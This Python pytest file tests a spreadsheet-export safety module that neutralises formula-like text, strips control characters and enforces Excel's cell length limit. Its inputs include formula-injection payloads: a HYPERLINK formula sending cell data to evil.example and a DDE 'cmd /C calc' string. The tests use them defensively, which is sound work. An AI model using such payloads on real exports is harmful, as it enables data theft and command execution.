"""Export cells: formula triggers neutralised (quote-prefixed cells, the text unchanged), rejected
characters removed, Excel's length kept; the apostrophe of earlier exports taken off on import."""
from __future__ import annotations

import pytest

from app.domain.excel_safety import (
    EXCEL_MAX_CELL_CHARS,
    TRUNCATION_MARK,
    WORKBOOK_OPTIONS,
    SafeText,
    TextCells,
    neutralise,
    safe_cell,
    without_guard,
)


@pytest.mark.parametrize(
    "value, expected, neutralised",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")',
         '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")', True),
        ("=1+1", "=1+1", True),
        ("+1", "+1", True),
        ("-2+3", "-2+3", True),
        ("-5", "-5", True),  # a negative number in a text column is still text
        ("@SUM(A1)", "@SUM(A1)", True),
        ("\t=1", "\t=1", True),
        ("\r=1", "\r=1", True),
        ("  =1", "  =1", True),  # spaces in front do not hide it
        ("\x01=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", True),  # control removed first
        ("＝1+1", "＝1+1", True),
        ("กลิ่นเหม็นจากโรงงาน ต.บางปู อ.เมือง จ.สมุทรปราการ", "กลิ่นเหม็นจากโรงงาน ต.บางปู อ.เมือง จ.สมุทรปราการ", False),
        ("นายสมชาย ใจดี", "นายสมชาย ใจดี", False),
        ("081-234-5678", "081-234-5678", False),
        ("a=b", "a=b", False),
        ("DIW-2569-000123", "DIW-2569-000123", False),
        ("", "", False),
        (None, "", False),
        (123, "123", False),
        (-5, "-5", True),
    ],
)
def test_neutralise(value, expected, neutralised):
    result = neutralise(value)
    assert result == SafeText(expected, neutralised, False)
    quick = safe_cell(value)
    assert quick == expected if type(quick) is str else quick == result


@pytest.mark.parametrize(
    "value, expected",
    [
        ("a\x00b\x01c\x02d\x03e\x04f\x05g\x06h\x07i\x08j", "abcdefghij"),
        ("a\x0bb\x0cc", "abc"),
        ("a\x0eb\x1fc\x1ad", "abcd"),
        ("บรรทัด 1\nบรรทัด 2\tแท็บ\rคืน", "บรรทัด 1\nบรรทัด 2\tแท็บ\rคืน"),  # kept
        ("x\ud800y\ufffez\uffff", "xyz"),
    ],
)
def test_rejected_characters_are_removed(value, expected):
    assert neutralise(value).text == expected


def test_long_text_is_cut_within_excels_limit_with_a_visible_mark():
    result = neutralise("ก" * 40_000)
    assert result.truncated and not result.neutralised
    assert len(result.text) == EXCEL_MAX_CELL_CHARS
    assert result.text.endswith(TRUNCATION_MARK)
    assert result.text.startswith("ก" * 100)


def test_text_at_the_limit_is_left_whole():
    text = "ข" * EXCEL_MAX_CELL_CHARS
    assert neutralise(text) == SafeText(text, False, False)


def test_a_long_formula_like_text_is_cut_and_neutralised():
    result = neutralise("=" + "x" * EXCEL_MAX_CELL_CHARS)
    assert result.neutralised and result.truncated
    assert result.text.startswith("=x")
    assert len(result.text) <= EXCEL_MAX_CELL_CHARS


def test_limit_is_counted_in_utf16_units_like_excel():
    # Each emoji is two UTF-16 units, so 20,000 of them are 40,000 units.
    result = neutralise("😀" * 20_000)
    assert result.truncated
    units = len(result.text.encode("utf-16-le")) // 2
    assert units <= EXCEL_MAX_CELL_CHARS
    assert result.text.endswith(TRUNCATION_MARK)


class RecordingWorkbook:
    def __init__(self):
        self.formats = []

    def add_format(self, properties):
        self.formats.append(properties)
        return f"format-{len(self.formats)}"


class RecordingSheet:
    def __init__(self):
        self.calls = []

    def write_string(self, row, col, text, cell_format=None):
        self.calls.append((row, col, text, cell_format))

    def write(self, *args):  # pragma: no cover - must never be used
        raise AssertionError("write() guesses types; text cells go through write_string")


def test_text_cells_quote_prefix_formula_like_text_in_a_twin_of_its_format():
    workbook, sheet = RecordingWorkbook(), RecordingSheet()
    texts = TextCells(workbook)
    assert texts.write(sheet, 3, 2, "=1+1", {"bold": True}).neutralised
    texts.write(sheet, 4, 2, "ร้องเรียน", {"bold": True})
    texts.write(sheet, 5, 2, "-5")
    texts.write(sheet, 6, 2, "ไม่มีรูปแบบ")
    assert workbook.formats == [{"bold": True}, {"bold": True, "quote_prefix": True}, {"quote_prefix": True}]
    assert sheet.calls == [(3, 2, "=1+1", "format-2"), (4, 2, "ร้องเรียน", "format-1"), (5, 2, "-5", "format-3"),
                           (6, 2, "ไม่มีรูปแบบ", None)]


def test_exported_cells_read_back_as_text_not_formulas(tmp_path):
    xlsxwriter = pytest.importorskip("xlsxwriter")
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "export.xlsx"
    values = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "-5", "@SUM(A1)", "ร้องเรียน", "ก" * 40_000]
    workbook = xlsxwriter.Workbook(str(path), {**WORKBOOK_OPTIONS, "tmpdir": str(tmp_path)})
    sheet = workbook.add_worksheet()
    texts = TextCells(workbook)
    for row, value in enumerate(values):
        texts.write(sheet, row, 0, value)
    # Even write() does not make formulas with these options.
    sheet.write(len(values), 0, "=1+1")
    workbook.close()

    loaded = openpyxl.load_workbook(path)
    cells = [row[0] for row in loaded.active.iter_rows()]
    assert all(cell.data_type == "s" for cell in cells)
    # The values are the texts themselves; the quote prefix keeps them text when edited in Excel.
    assert [cell.value for cell in cells[:4]] == values[:4] and all(cell.quotePrefix for cell in cells[:4])
    assert cells[4].value == "ร้องเรียน" and not cells[4].quotePrefix
    assert len(cells[5].value) == EXCEL_MAX_CELL_CHARS and cells[5].value.endswith(TRUNCATION_MARK)
    assert cells[6].value == "=1+1"


def test_the_quick_path_of_safe_cell_gives_what_neutralise_gives():
    half = EXCEL_MAX_CELL_CHARS // 2
    heads = ["", " ", "  =", "=", "+", "-", "@", "\t", "\r", "＝", "ก", "A", "1", "'", "😀", "\x01", "\n", "\ufffe"]
    bodies = ["", "x", "กลิ่น เหม็น", "a\nb", "😀" * 3, "x" * (half - 1), "x" * half, "😀" * (half // 2 + 1),
              "x" * EXCEL_MAX_CELL_CHARS]
    for head in heads:
        for body in bodies:
            value = head + body
            quick = safe_cell(value)
            if type(quick) is str:
                assert neutralise(value) == SafeText(quick, False, False), (head, len(body))
            else:
                assert quick == neutralise(value), (head, len(body))


@pytest.mark.parametrize("text, expected", [
    ("'- น้ำเสียไหลลงคลอง", "- น้ำเสียไหลลงคลอง"),
    ("'=1+1", "=1+1"),
    ("'  +1", "  +1"),
    ("'\t=1", "\t=1"),
    ("'＝1", "＝1"),
    ("''=1", "''=1"),  # one apostrophe only, and only right before the trigger
    ("'ป้าแดง'", "'ป้าแดง'"),
    ("'", "'"),
    ("", ""),
    ("-5", "-5"),
])
def test_without_guard_takes_off_the_apostrophe_of_earlier_exports(text, expected):
    assert without_guard(text) == expected
